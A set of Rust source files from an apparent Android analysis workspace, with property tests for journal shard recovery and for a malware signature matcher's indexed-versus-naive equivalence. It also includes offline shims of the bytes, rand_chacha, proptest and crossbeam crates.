                let pkg = format!("com.app{id}");
                w.append(&prop_record(&pkg)).unwrap();
                if seen.insert(pkg.clone()) {
                    expected.push(pkg);
                }
            }
        }
        for (k, ids) in shards.iter().enumerate() {
            let mut w = journal.shard(k).writer().unwrap();
            for id in ids {
                let pkg = format!("com.app{id}");
                w.append(&prop_record(&pkg)).unwrap();
                if seen.insert(pkg.clone()) {
                    expected.push(pkg);
                }
            }
        }

        // Pre-merge: every shard file is a contiguous frame sequence of
        // its own (seq restarts at 0 per shard).
        for (k, ids) in shards.iter().enumerate() {
            if ids.is_empty() {
                continue; // opening wrote no frames; file may be empty
            }
            let scan = scan_path(&journal.shard_path(k)).unwrap().unwrap();
            prop_assert_eq!(scan.dropped, 0usize);
            prop_assert_eq!(scan.next_seq, ids.len() as u64);
        }

        // Merge through recovery (journal-only segments: no ledger or
        // event streams in play).
        let pipeline = Pipeline::new(PipelineConfig {
            provenance: false,
            telemetry: false,
            environment_reruns: false,
            ..PipelineConfig::default()
        });
        let outcome = pipeline.recover_all(&journal).unwrap();
        let merged: Vec<String> = outcome.records.iter().map(|r| r.package.clone()).collect();
        prop_assert_eq!(&merged, &expected);
        prop_assert!(outcome.inconsistent.is_empty());

        // Post-merge: shard files are gone and the base journal scans
        // clean as one contiguous sequence holding the union.
        prop_assert!(journal.discover_shards().unwrap().is_empty());
        if expected.is_empty() {
            // Nothing to rewrite; the base journal may not even exist.
        } else {
            let scan = scan_path(journal.path()).unwrap().unwrap();
            prop_assert_eq!(scan.dropped, 0usize);
            prop_assert_eq!(scan.next_seq, expected.len() as u64);
        }

        journal.reset().unwrap();
        let _ = std::fs::remove_dir_all(&dir);
    }
}
