//! Exact-equivalence property of the signature matcher: the inverted
//! block index with threshold pruning must return the same verdict —
//! same family, same score *bits* — as the naive quadratic scan, for
//! every training set, test binary, and threshold, including empty and
//! trivial (< 2 block) samples and scores sitting exactly on the
//! threshold boundary.

use dydroid_analysis::{BinarySig, BlockSig, MalwareDetector};
use proptest::prelude::*;

/// A block from a deliberately tiny vocabulary, so training and test
/// multisets collide constantly and partial-overlap scores land on and
/// around every threshold.
fn block() -> impl Strategy<Value = BlockSig> {
    (0u64..12, 0u8..3).prop_map(|(pattern, out_degree)| BlockSig {
        pattern,
        out_degree,
    })
}

/// One training sample: may be empty or a single block (both are
/// excluded from matching by the trivial-sample guard).
fn sample() -> impl Strategy<Value = Vec<BlockSig>> {
    prop::collection::vec(block(), 0..9)
}

/// A family: up to four samples.
fn family() -> impl Strategy<Value = Vec<Vec<BlockSig>>> {
    prop::collection::vec(sample(), 0..4)
}

/// Thresholds hammer the exact boundary cases: 0 (everything matches,
/// even zero-score samples), 1 (only perfect containment), and values
/// that small block counts hit exactly (0.5 of 2, 0.75 of 4, 0.9 of 10).
fn threshold() -> impl Strategy<Value = f64> {
    prop::sample::select(vec![0.0, 0.25, 0.5, 0.75, 0.9, 1.0])
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn indexed_matches_naive_verdicts_exactly(
        families in prop::collection::vec(family(), 1..5),
        test_blocks in prop::collection::vec(block(), 0..14),
        thresh in threshold(),
    ) {
        let mut indexed = MalwareDetector::with_threshold(thresh);
        for (f, samples) in families.iter().enumerate() {
            let sigs = samples
                .iter()
                .map(|blocks| BinarySig::from_blocks(blocks.clone()))
                .collect();
            indexed.train_sigs(format!("family_{f}"), sigs);
        }
        let mut naive = indexed.clone();
        naive.set_naive(true);

        let test = BinarySig::from_blocks(test_blocks);
        let a = indexed.detect_sig(&test);
        let b = naive.detect_sig(&test);
        match (&a, &b) {
            (None, None) => {}
            (Some(x), Some(y)) => {
                prop_assert_eq!(&x.family, &y.family);
                prop_assert_eq!(x.score.to_bits(), y.score.to_bits());
            }
            _ => prop_assert!(false, "indexed {:?} vs naive {:?}", a, b),
        }
    }

    #[test]
    fn threshold_boundary_scores_agree(
        base in prop::collection::vec(block(), 10..11),
        keep in 0usize..11,
    ) {
        // A 10-block sample probed with `keep` of its own blocks plus
        // filler: the score is exactly keep/10, so keep == 9 sits
        // precisely on the 0.9 default threshold.
        let mut indexed = MalwareDetector::with_threshold(0.9);
        indexed.train_sigs("fam", vec![BinarySig::from_blocks(base.clone())]);
        let mut naive = indexed.clone();
        naive.set_naive(true);

        let mut probe: Vec<BlockSig> = base.iter().take(keep.min(10)).copied().collect();
        probe.resize(
            10,
            BlockSig {
                pattern: u64::MAX,
                out_degree: 0,
            },
        );
        let test = BinarySig::from_blocks(probe);
        let a = indexed.detect_sig(&test);
        let b = naive.detect_sig(&test);
        prop_assert_eq!(a.is_some(), b.is_some());
        if let (Some(x), Some(y)) = (&a, &b) {
            prop_assert_eq!(&x.family, &y.family);
            prop_assert_eq!(x.score.to_bits(), y.score.to_bits());
        }
    }
}
