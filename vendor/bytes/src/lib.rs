//! Offline shim for the `bytes` crate: just enough of `Bytes`,
//! `BytesMut`, `Buf` and `BufMut` for the workspace's little-endian
//! cursor (`dydroid_dex::encode`).

#![forbid(unsafe_code)]

/// Read-side cursor operations.
pub trait Buf {
    /// Bytes left to read.
    fn remaining(&self) -> usize;
    /// Whether any bytes are left.
    fn has_remaining(&self) -> bool {
        self.remaining() > 0
    }
    /// Reads one byte. Panics when exhausted (callers bounds-check).
    fn get_u8(&mut self) -> u8;
    /// Reads a little-endian `u16`.
    fn get_u16_le(&mut self) -> u16;
    /// Reads a little-endian `u32`.
    fn get_u32_le(&mut self) -> u32;
    /// Reads a little-endian `u64`.
    fn get_u64_le(&mut self) -> u64;
    /// Reads a little-endian `i64`.
    fn get_i64_le(&mut self) -> i64;
    /// Fills `dst` from the cursor.
    fn copy_to_slice(&mut self, dst: &mut [u8]);
}

/// Write-side cursor operations.
pub trait BufMut {
    /// Appends one byte.
    fn put_u8(&mut self, v: u8);
    /// Appends a little-endian `u16`.
    fn put_u16_le(&mut self, v: u16);
    /// Appends a little-endian `u32`.
    fn put_u32_le(&mut self, v: u32);
    /// Appends a little-endian `u64`.
    fn put_u64_le(&mut self, v: u64);
    /// Appends a little-endian `i64`.
    fn put_i64_le(&mut self, v: i64);
    /// Appends raw bytes.
    fn put_slice(&mut self, v: &[u8]);
}

/// An immutable byte buffer with a read cursor.
#[derive(Debug, Clone, Default)]
pub struct Bytes {
    data: Vec<u8>,
    pos: usize,
}

impl Bytes {
    /// Copies `data` into a new buffer.
    pub fn copy_from_slice(data: &[u8]) -> Self {
        Bytes {
            data: data.to_vec(),
            pos: 0,
        }
    }
}

impl Buf for Bytes {
    fn remaining(&self) -> usize {
        self.data.len() - self.pos
    }

    fn get_u8(&mut self) -> u8 {
        let v = self.data[self.pos];
        self.pos += 1;
        v
    }

    fn get_u16_le(&mut self) -> u16 {
        let mut b = [0u8; 2];
        self.copy_to_slice(&mut b);
        u16::from_le_bytes(b)
    }

    fn get_u32_le(&mut self) -> u32 {
        let mut b = [0u8; 4];
        self.copy_to_slice(&mut b);
        u32::from_le_bytes(b)
    }

    fn get_u64_le(&mut self) -> u64 {
        let mut b = [0u8; 8];
        self.copy_to_slice(&mut b);
        u64::from_le_bytes(b)
    }

    fn get_i64_le(&mut self) -> i64 {
        let mut b = [0u8; 8];
        self.copy_to_slice(&mut b);
        i64::from_le_bytes(b)
    }

    fn copy_to_slice(&mut self, dst: &mut [u8]) {
        dst.copy_from_slice(&self.data[self.pos..self.pos + dst.len()]);
        self.pos += dst.len();
    }
}

/// A growable byte buffer.
#[derive(Debug, Clone, Default)]
pub struct BytesMut {
    data: Vec<u8>,
}

impl BytesMut {
    /// Creates an empty buffer.
    pub fn new() -> Self {
        BytesMut::default()
    }

    /// Written length in bytes.
    pub fn len(&self) -> usize {
        self.data.len()
    }

    /// Whether nothing has been written.
    pub fn is_empty(&self) -> bool {
        self.data.is_empty()
    }

    /// Copies the contents out as a `Vec`.
    pub fn to_vec(&self) -> Vec<u8> {
        self.data.clone()
    }
}

impl BufMut for BytesMut {
    fn put_u8(&mut self, v: u8) {
        self.data.push(v);
    }

    fn put_u16_le(&mut self, v: u16) {
        self.data.extend_from_slice(&v.to_le_bytes());
    }

    fn put_u32_le(&mut self, v: u32) {
        self.data.extend_from_slice(&v.to_le_bytes());
    }

    fn put_u64_le(&mut self, v: u64) {
        self.data.extend_from_slice(&v.to_le_bytes());
    }

    fn put_i64_le(&mut self, v: i64) {
        self.data.extend_from_slice(&v.to_le_bytes());
    }

    fn put_slice(&mut self, v: &[u8]) {
        self.data.extend_from_slice(v);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn round_trip() {
        let mut w = BytesMut::new();
        w.put_u8(7);
        w.put_u32_le(0xAABBCCDD);
        w.put_slice(&[1, 2]);
        let mut r = Bytes::copy_from_slice(&w.to_vec());
        assert_eq!(r.remaining(), 7);
        assert_eq!(r.get_u8(), 7);
        assert_eq!(r.get_u32_le(), 0xAABBCCDD);
        let mut out = [0u8; 2];
        r.copy_to_slice(&mut out);
        assert_eq!(out, [1, 2]);
        assert!(!r.has_remaining());
    }
}
