//! Offline shim for `rand_chacha`: a genuine ChaCha8 block function
//! driving [`rand::RngCore`]. The key schedule (splitmix64 expansion of
//! the `u64` seed) differs from upstream, so streams are *not*
//! bit-compatible with the real crate — everything in this workspace
//! only needs determinism given a seed, which holds.

#![forbid(unsafe_code)]

use rand::{splitmix64, RngCore, SeedableRng};

/// A ChaCha stream cipher RNG with 8 rounds.
#[derive(Debug, Clone)]
pub struct ChaCha8Rng {
    /// Cipher input block: constants, key, counter, nonce.
    state: [u32; 16],
    /// Current keystream block.
    block: [u32; 16],
    /// Next unread word of `block`; 16 = exhausted.
    word: usize,
}

#[inline]
fn quarter_round(s: &mut [u32; 16], a: usize, b: usize, c: usize, d: usize) {
    s[a] = s[a].wrapping_add(s[b]);
    s[d] = (s[d] ^ s[a]).rotate_left(16);
    s[c] = s[c].wrapping_add(s[d]);
    s[b] = (s[b] ^ s[c]).rotate_left(12);
    s[a] = s[a].wrapping_add(s[b]);
    s[d] = (s[d] ^ s[a]).rotate_left(8);
    s[c] = s[c].wrapping_add(s[d]);
    s[b] = (s[b] ^ s[c]).rotate_left(7);
}

impl ChaCha8Rng {
    fn refill(&mut self) {
        let mut working = self.state;
        for _ in 0..4 {
            // One double round: four column rounds + four diagonal rounds.
            quarter_round(&mut working, 0, 4, 8, 12);
            quarter_round(&mut working, 1, 5, 9, 13);
            quarter_round(&mut working, 2, 6, 10, 14);
            quarter_round(&mut working, 3, 7, 11, 15);
            quarter_round(&mut working, 0, 5, 10, 15);
            quarter_round(&mut working, 1, 6, 11, 12);
            quarter_round(&mut working, 2, 7, 8, 13);
            quarter_round(&mut working, 3, 4, 9, 14);
        }
        for (out, (w, s)) in self
            .block
            .iter_mut()
            .zip(working.iter().zip(self.state.iter()))
        {
            *out = w.wrapping_add(*s);
        }
        // 64-bit block counter in words 12..14.
        let (lo, carry) = self.state[12].overflowing_add(1);
        self.state[12] = lo;
        if carry {
            self.state[13] = self.state[13].wrapping_add(1);
        }
        self.word = 0;
    }

    fn next_word(&mut self) -> u32 {
        if self.word >= 16 {
            self.refill();
        }
        let w = self.block[self.word];
        self.word += 1;
        w
    }
}

impl SeedableRng for ChaCha8Rng {
    fn seed_from_u64(seed: u64) -> Self {
        let mut sm = seed;
        let mut state = [0u32; 16];
        // "expand 32-byte k" constants.
        state[0] = 0x6170_7865;
        state[1] = 0x3320_646e;
        state[2] = 0x7962_2d32;
        state[3] = 0x6b20_6574;
        for i in 0..4 {
            let k = splitmix64(&mut sm);
            state[4 + 2 * i] = k as u32;
            state[5 + 2 * i] = (k >> 32) as u32;
        }
        // counter = 0, nonce = 0.
        ChaCha8Rng {
            state,
            block: [0; 16],
            word: 16,
        }
    }
}

impl RngCore for ChaCha8Rng {
    fn next_u64(&mut self) -> u64 {
        let lo = self.next_word() as u64;
        let hi = self.next_word() as u64;
        (hi << 32) | lo
    }

    fn next_u32(&mut self) -> u32 {
        self.next_word()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::Rng;

    #[test]
    fn deterministic_and_seed_sensitive() {
        let mut a = ChaCha8Rng::seed_from_u64(42);
        let mut b = ChaCha8Rng::seed_from_u64(42);
        let mut c = ChaCha8Rng::seed_from_u64(43);
        let xs: Vec<u64> = (0..64).map(|_| a.next_u64()).collect();
        let ys: Vec<u64> = (0..64).map(|_| b.next_u64()).collect();
        let zs: Vec<u64> = (0..64).map(|_| c.next_u64()).collect();
        assert_eq!(xs, ys);
        assert_ne!(xs, zs);
    }

    #[test]
    fn range_sampling_compiles_through_rng_trait() {
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        let i = rng.gen_range(0..10usize);
        assert!(i < 10);
        let p = rng.gen_bool(0.5);
        let _ = p;
    }

    #[test]
    fn rough_uniformity() {
        // Not a statistical test — just catches a broken block function
        // (e.g. all zeros or stuck counter).
        let mut rng = ChaCha8Rng::seed_from_u64(99);
        let mut buckets = [0usize; 8];
        for _ in 0..8000 {
            buckets[rng.gen_range(0..8usize)] += 1;
        }
        for b in buckets {
            assert!(b > 700 && b < 1300, "bucket {b} far from 1000");
        }
    }
}
