//! Offline shim for `proptest`: random sampling of strategies with a
//! deterministic per-test RNG. Compared to upstream there is **no
//! shrinking** and no persisted failure seeds — a failing case panics
//! with the case number, and re-running the test replays the identical
//! sequence (the RNG is seeded from the test's name).
//!
//! Supported surface (what this workspace's tests use): range and
//! `any::<T>()` strategies, regex-subset string literals, `Just`,
//! `prop_map`, tuples, `prop::collection::vec`, `prop::sample::select`,
//! `prop::sample::Index`, `prop_oneof!`, `proptest!` with
//! `#![proptest_config(ProptestConfig::with_cases(n))]`, and the
//! `prop_assert*` macros.

#![forbid(unsafe_code)]

pub mod test_runner {
    //! The RNG driving every strategy sample.

    use rand::{RngCore, SeedableRng};
    use rand_chacha::ChaCha8Rng;

    /// Deterministic test RNG; one per `proptest!` test function.
    #[derive(Debug, Clone)]
    pub struct TestRng {
        inner: ChaCha8Rng,
    }

    impl TestRng {
        /// Seeds from the test name so each test gets a stable,
        /// independent stream.
        pub fn from_name(name: &str) -> Self {
            let mut h: u64 = 0xcbf2_9ce4_8422_2325;
            for b in name.bytes() {
                h ^= b as u64;
                h = h.wrapping_mul(0x0000_0100_0000_01b3);
            }
            TestRng {
                inner: ChaCha8Rng::seed_from_u64(h),
            }
        }
    }

    impl RngCore for TestRng {
        fn next_u64(&mut self) -> u64 {
            self.inner.next_u64()
        }
    }
}

/// Number of cases each property runs.
#[derive(Debug, Clone, Copy)]
pub struct ProptestConfig {
    pub cases: u32,
}

impl ProptestConfig {
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: 32 }
    }
}

pub mod strategy {
    //! The `Strategy` trait and combinators.

    use super::test_runner::TestRng;
    use rand::Rng;
    use std::rc::Rc;

    /// A recipe for generating values of `Self::Value`.
    pub trait Strategy {
        type Value;

        /// Draws one value.
        fn sample(&self, rng: &mut TestRng) -> Self::Value;

        /// Maps generated values through `f`.
        fn prop_map<U, F>(self, f: F) -> Map<Self, F>
        where
            Self: Sized,
            F: Fn(Self::Value) -> U,
        {
            Map { strategy: self, f }
        }

        /// Type-erases the strategy (used by `prop_oneof!`).
        fn boxed(self) -> BoxedStrategy<Self::Value>
        where
            Self: Sized + 'static,
        {
            BoxedStrategy(Rc::new(move |rng: &mut TestRng| self.sample(rng)))
        }
    }

    /// A type-erased strategy.
    pub struct BoxedStrategy<T>(Rc<dyn Fn(&mut TestRng) -> T>);

    impl<T> Clone for BoxedStrategy<T> {
        fn clone(&self) -> Self {
            BoxedStrategy(self.0.clone())
        }
    }

    impl<T> Strategy for BoxedStrategy<T> {
        type Value = T;

        fn sample(&self, rng: &mut TestRng) -> T {
            (self.0)(rng)
        }
    }

    /// Always yields a clone of the given value.
    #[derive(Debug, Clone)]
    pub struct Just<T: Clone>(pub T);

    impl<T: Clone> Strategy for Just<T> {
        type Value = T;

        fn sample(&self, _rng: &mut TestRng) -> T {
            self.0.clone()
        }
    }

    /// Strategy returned by [`Strategy::prop_map`].
    #[derive(Debug, Clone)]
    pub struct Map<S, F> {
        pub(crate) strategy: S,
        pub(crate) f: F,
    }

    impl<S, F, U> Strategy for Map<S, F>
    where
        S: Strategy,
        F: Fn(S::Value) -> U,
    {
        type Value = U;

        fn sample(&self, rng: &mut TestRng) -> U {
            (self.f)(self.strategy.sample(rng))
        }
    }

    /// Uniform choice between type-erased alternatives (`prop_oneof!`).
    pub struct Union<T>(Vec<BoxedStrategy<T>>);

    impl<T> Union<T> {
        pub fn new(arms: Vec<BoxedStrategy<T>>) -> Self {
            assert!(!arms.is_empty(), "prop_oneof! needs at least one arm");
            Union(arms)
        }
    }

    impl<T> Strategy for Union<T> {
        type Value = T;

        fn sample(&self, rng: &mut TestRng) -> T {
            let arm = rng.gen_range(0..self.0.len());
            self.0[arm].sample(rng)
        }
    }

    macro_rules! impl_range_strategy {
        ($($t:ty),*) => {$(
            impl Strategy for std::ops::Range<$t> {
                type Value = $t;

                fn sample(&self, rng: &mut TestRng) -> $t {
                    rng.gen_range(self.clone())
                }
            }

            impl Strategy for std::ops::RangeInclusive<$t> {
                type Value = $t;

                fn sample(&self, rng: &mut TestRng) -> $t {
                    rng.gen_range(self.clone())
                }
            }
        )*};
    }

    impl_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Strategy for std::ops::Range<f64> {
        type Value = f64;

        fn sample(&self, rng: &mut TestRng) -> f64 {
            rng.gen_range(self.clone())
        }
    }

    impl Strategy for std::ops::Range<f32> {
        type Value = f32;

        fn sample(&self, rng: &mut TestRng) -> f32 {
            rng.gen_range(self.clone())
        }
    }

    /// String literals are regex-subset strategies producing matching
    /// strings (see [`crate::string`] for the supported subset).
    impl Strategy for &str {
        type Value = String;

        fn sample(&self, rng: &mut TestRng) -> String {
            crate::string::sample_regex(self, rng)
        }
    }

    macro_rules! impl_tuple_strategy {
        ($(($($name:ident : $idx:tt),+))*) => {$(
            impl<$($name: Strategy),+> Strategy for ($($name,)+) {
                type Value = ($($name::Value,)+);

                fn sample(&self, rng: &mut TestRng) -> Self::Value {
                    ($(self.$idx.sample(rng),)+)
                }
            }
        )*};
    }

    impl_tuple_strategy! {
        (A: 0)
        (A: 0, B: 1)
        (A: 0, B: 1, C: 2)
        (A: 0, B: 1, C: 2, D: 3)
        (A: 0, B: 1, C: 2, D: 3, E: 4)
    }
}

pub mod arbitrary {
    //! `any::<T>()` — full-domain strategies for primitives.

    use super::strategy::Strategy;
    use super::test_runner::TestRng;
    use rand::RngCore;
    use std::marker::PhantomData;

    /// Types with a canonical full-domain strategy.
    pub trait Arbitrary: Sized {
        fn arbitrary(rng: &mut TestRng) -> Self;
    }

    macro_rules! impl_arbitrary_int {
        ($($t:ty),*) => {$(
            impl Arbitrary for $t {
                fn arbitrary(rng: &mut TestRng) -> $t {
                    rng.next_u64() as $t
                }
            }
        )*};
    }

    impl_arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

    impl Arbitrary for bool {
        fn arbitrary(rng: &mut TestRng) -> bool {
            rng.next_u64() & 1 == 1
        }
    }

    impl Arbitrary for super::sample::Index {
        fn arbitrary(rng: &mut TestRng) -> Self {
            super::sample::Index::new(rng.next_u64())
        }
    }

    /// The strategy returned by [`any`].
    #[derive(Debug, Clone, Copy)]
    pub struct Any<T>(PhantomData<T>);

    impl<T: Arbitrary> Strategy for Any<T> {
        type Value = T;

        fn sample(&self, rng: &mut TestRng) -> T {
            T::arbitrary(rng)
        }
    }

    /// Strategy over the whole domain of `T`.
    pub fn any<T: Arbitrary>() -> Any<T> {
        Any(PhantomData)
    }
}

pub mod collection {
    //! Collection strategies.

    use super::strategy::Strategy;
    use super::test_runner::TestRng;
    use rand::Rng;

    /// Strategy for `Vec`s with lengths drawn from `size`.
    #[derive(Debug, Clone)]
    pub struct VecStrategy<S> {
        element: S,
        size: std::ops::Range<usize>,
    }

    /// `vec(element, len_range)` — a vector of `element` samples.
    pub fn vec<S: Strategy>(element: S, size: std::ops::Range<usize>) -> VecStrategy<S> {
        VecStrategy { element, size }
    }

    impl<S: Strategy> Strategy for VecStrategy<S> {
        type Value = Vec<S::Value>;

        fn sample(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let len = rng.gen_range(self.size.clone());
            (0..len).map(|_| self.element.sample(rng)).collect()
        }
    }
}

pub mod sample {
    //! Sampling from explicit collections.

    use super::strategy::Strategy;
    use super::test_runner::TestRng;
    use rand::Rng;

    /// Strategy choosing uniformly from a fixed list.
    #[derive(Debug, Clone)]
    pub struct Select<T: Clone>(Vec<T>);

    /// `select(options)` — uniform choice from `options`.
    pub fn select<T: Clone>(options: Vec<T>) -> Select<T> {
        assert!(!options.is_empty(), "select() needs at least one option");
        Select(options)
    }

    impl<T: Clone> Strategy for Select<T> {
        type Value = T;

        fn sample(&self, rng: &mut TestRng) -> T {
            self.0[rng.gen_range(0..self.0.len())].clone()
        }
    }

    /// An index into a collection whose length is only known at use-site;
    /// obtain via `any::<prop::sample::Index>()`, resolve with
    /// [`Index::index`].
    #[derive(Debug, Clone, Copy, PartialEq, Eq)]
    pub struct Index(u64);

    impl Index {
        pub(crate) fn new(raw: u64) -> Self {
            Index(raw)
        }

        /// Resolves against a concrete collection length.
        pub fn index(&self, len: usize) -> usize {
            assert!(len > 0, "Index::index on empty collection");
            (self.0 % len as u64) as usize
        }
    }
}

pub mod string {
    //! A small regex subset sampler backing string-literal strategies.
    //!
    //! Supported: literal characters, `.`, character classes with ranges
    //! (`[a-zA-Z0-9_.:-]`, trailing/leading `-` literal), the escapes
    //! `\\ \. \- \[ \]`, and the quantifiers `{n}`, `{n,m}`, `?`, `*`,
    //! `+` (the unbounded ones capped at 8 repeats).

    use super::test_runner::TestRng;
    use rand::Rng;

    enum Atom {
        /// One of these chars, uniformly.
        Class(Vec<char>),
    }

    struct Piece {
        atom: Atom,
        min: usize,
        max: usize,
    }

    fn parse(pattern: &str) -> Vec<Piece> {
        let chars: Vec<char> = pattern.chars().collect();
        let mut pieces = Vec::new();
        let mut i = 0;
        while i < chars.len() {
            let atom = match chars[i] {
                '[' => {
                    let mut set = Vec::new();
                    i += 1;
                    while i < chars.len() && chars[i] != ']' {
                        if chars[i] == '\\' && i + 1 < chars.len() {
                            set.push(chars[i + 1]);
                            i += 2;
                        } else if i + 2 < chars.len() && chars[i + 1] == '-' && chars[i + 2] != ']'
                        {
                            let (lo, hi) = (chars[i] as u32, chars[i + 2] as u32);
                            assert!(lo <= hi, "bad range in regex class: {pattern}");
                            for c in lo..=hi {
                                set.push(char::from_u32(c).expect("class range"));
                            }
                            i += 3;
                        } else {
                            set.push(chars[i]);
                            i += 1;
                        }
                    }
                    assert!(i < chars.len(), "unterminated class in regex: {pattern}");
                    i += 1; // closing ]
                    assert!(!set.is_empty(), "empty class in regex: {pattern}");
                    Atom::Class(set)
                }
                '.' => {
                    i += 1;
                    Atom::Class((' '..='~').collect())
                }
                '\\' => {
                    assert!(i + 1 < chars.len(), "trailing escape in regex: {pattern}");
                    let c = chars[i + 1];
                    i += 2;
                    Atom::Class(vec![c])
                }
                c => {
                    i += 1;
                    Atom::Class(vec![c])
                }
            };
            let (min, max) = if i < chars.len() {
                match chars[i] {
                    '{' => {
                        let close = chars[i..]
                            .iter()
                            .position(|&c| c == '}')
                            .map(|p| i + p)
                            .unwrap_or_else(|| panic!("unterminated quantifier in {pattern}"));
                        let body: String = chars[i + 1..close].iter().collect();
                        i = close + 1;
                        match body.split_once(',') {
                            Some((lo, hi)) => (
                                lo.parse().expect("quantifier min"),
                                hi.parse().expect("quantifier max"),
                            ),
                            None => {
                                let n = body.parse().expect("quantifier count");
                                (n, n)
                            }
                        }
                    }
                    '?' => {
                        i += 1;
                        (0, 1)
                    }
                    '*' => {
                        i += 1;
                        (0, 8)
                    }
                    '+' => {
                        i += 1;
                        (1, 8)
                    }
                    _ => (1, 1),
                }
            } else {
                (1, 1)
            };
            pieces.push(Piece { atom, min, max });
        }
        pieces
    }

    /// Generates one string matching `pattern`.
    pub fn sample_regex(pattern: &str, rng: &mut TestRng) -> String {
        let mut out = String::new();
        for piece in parse(pattern) {
            let count = rng.gen_range(piece.min..=piece.max);
            let Atom::Class(set) = &piece.atom;
            for _ in 0..count {
                out.push(set[rng.gen_range(0..set.len())]);
            }
        }
        out
    }
}

pub mod prelude {
    //! The glob import every test file uses.

    pub use crate::arbitrary::any;
    pub use crate::strategy::{BoxedStrategy, Just, Strategy};
    pub use crate::ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest};

    /// Makes `prop::collection::vec` / `prop::sample::select` paths work
    /// after `use proptest::prelude::*`.
    pub use crate as prop;
}

/// Defines property-test functions. Each argument is drawn from its
/// strategy `cases` times; the body runs inside a closure returning
/// `Result<(), String>` so `prop_assert*` can short-circuit.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_fns! { $cfg; $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_fns! { $crate::ProptestConfig::default(); $($rest)* }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_fns {
    ($cfg:expr; ) => {};
    ($cfg:expr;
     $(#[$attr:meta])*
     fn $name:ident($($arg:ident in $strat:expr),* $(,)?) $body:block
     $($rest:tt)*) => {
        $(#[$attr])*
        fn $name() {
            let config: $crate::ProptestConfig = $cfg;
            let mut rng = $crate::test_runner::TestRng::from_name(stringify!($name));
            for case in 0..config.cases {
                $(let $arg = $crate::strategy::Strategy::sample(&($strat), &mut rng);)*
                let outcome: ::std::result::Result<(), ::std::string::String> =
                    (|| { $body ::std::result::Result::Ok(()) })();
                if let ::std::result::Result::Err(message) = outcome {
                    panic!(
                        "proptest {} failed at case {}/{}: {}",
                        stringify!($name), case + 1, config.cases, message
                    );
                }
            }
        }
        $crate::__proptest_fns! { $cfg; $($rest)* }
    };
}

/// Uniform choice among strategies with a common value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($arm:expr),+ $(,)?) => {
        $crate::strategy::Union::new(vec![
            $($crate::strategy::Strategy::boxed($arm)),+
        ])
    };
}

/// Asserts a condition inside a `proptest!` body.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr $(,)?) => {
        $crate::prop_assert!($cond, "assertion failed: {}", stringify!($cond))
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !($cond) {
            return ::std::result::Result::Err(format!($($fmt)+));
        }
    };
}

/// Asserts equality inside a `proptest!` body.
#[macro_export]
macro_rules! prop_assert_eq {
    ($lhs:expr, $rhs:expr $(,)?) => {{
        let (lhs, rhs) = (&$lhs, &$rhs);
        if !(lhs == rhs) {
            return ::std::result::Result::Err(format!(
                "assertion failed: `{:?}` != `{:?}`", lhs, rhs
            ));
        }
    }};
    ($lhs:expr, $rhs:expr, $($fmt:tt)+) => {{
        let (lhs, rhs) = (&$lhs, &$rhs);
        if !(lhs == rhs) {
            return ::std::result::Result::Err(format!(
                "{}: `{:?}` != `{:?}`", format!($($fmt)+), lhs, rhs
            ));
        }
    }};
}

/// Asserts inequality inside a `proptest!` body.
#[macro_export]
macro_rules! prop_assert_ne {
    ($lhs:expr, $rhs:expr $(,)?) => {{
        let (lhs, rhs) = (&$lhs, &$rhs);
        if lhs == rhs {
            return ::std::result::Result::Err(format!(
                "assertion failed: `{:?}` == `{:?}`", lhs, rhs
            ));
        }
    }};
    ($lhs:expr, $rhs:expr, $($fmt:tt)+) => {{
        let (lhs, rhs) = (&$lhs, &$rhs);
        if lhs == rhs {
            return ::std::result::Result::Err(format!(
                "{}: `{:?}` == `{:?}`", format!($($fmt)+), lhs, rhs
            ));
        }
    }};
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn ranges_in_bounds(x in 3..17usize, y in 1u8..=255) {
            prop_assert!((3..17).contains(&x));
            prop_assert!(y >= 1, "y was {}", y);
        }

        #[test]
        fn regex_strings_match_shape(s in "[a-z][a-zA-Z0-9_]{0,12}") {
            prop_assert!(!s.is_empty());
            prop_assert!(s.len() <= 13);
            prop_assert!(s.chars().next().unwrap().is_ascii_lowercase());
        }

        #[test]
        fn oneof_and_maps(v in prop_oneof![
            Just(0usize),
            (1usize..5).prop_map(|n| n * 10),
        ]) {
            prop_assert!(v == 0 || (10..50).contains(&v));
        }

        #[test]
        fn vecs_and_select(
            items in prop::collection::vec((any::<u8>(), "[ -~]{0,5}"), 0..6),
            pick in prop::sample::select(vec!["a", "b", "c"]),
            at in any::<prop::sample::Index>(),
        ) {
            prop_assert!(items.len() < 6);
            prop_assert!(["a", "b", "c"].contains(&pick));
            prop_assert!(at.index(3) < 3);
            for (_, s) in &items {
                prop_assert!(s.len() <= 5);
            }
        }
    }

    #[test]
    fn deterministic_across_runs() {
        use crate::strategy::Strategy;
        let mut a = crate::test_runner::TestRng::from_name("fixed");
        let mut b = crate::test_runner::TestRng::from_name("fixed");
        let strat = crate::collection::vec(0u64..1000, 0..20);
        for _ in 0..10 {
            assert_eq!(strat.sample(&mut a), strat.sample(&mut b));
        }
    }
}
