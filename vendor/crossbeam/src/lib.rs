//! Offline shim for the `crossbeam` crate: unbounded and bounded MPMC
//! channels and scoped threads, all built on std. Semantics match what
//! the pipeline relies on: cloneable receivers, `Err` on send-to-closed
//! and recv-from-drained, backpressure-blocking `send` on bounded
//! channels, and `thread::scope` returning `Err` when any spawned
//! thread panicked instead of propagating the panic.

#![forbid(unsafe_code)]

pub mod channel {
